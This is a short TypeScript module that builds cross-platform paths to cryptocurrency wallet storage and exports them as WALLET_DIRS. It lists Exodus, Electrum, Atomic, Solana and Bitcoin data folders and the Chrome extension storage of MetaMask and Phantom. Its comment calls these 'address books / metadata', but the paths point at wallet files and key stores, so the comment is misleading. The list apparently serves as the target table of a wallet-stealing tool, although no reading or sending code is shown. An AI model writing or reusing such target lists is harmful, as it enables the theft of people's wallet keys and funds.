import { homedir, platform } from "node:os";
import { join } from "node:path";

const h = homedir();
const appData =
  platform() === "win32" ? process.env.APPDATA ?? join(h, "AppData/Roaming")
  : platform() === "darwin" ? join(h, "Library/Application Support")
  : join(h, ".config");

// Locations where wallet apps keep their address books / metadata.
export const WALLET_DIRS: Record<string, string> = {
  exodus: join(appData, "Exodus/exodus.wallet"),
  electrum: join(h, ".electrum/wallets"),
  atomic: join(appData, "atomic/Local Storage/leveldb"),
  metamask: join(appData, "Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
  phantom: join(appData, "Google/Chrome/Default/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa"),
  solana: join(h, ".config/solana"),
  bitcoin: join(h, ".bitcoin"),
};
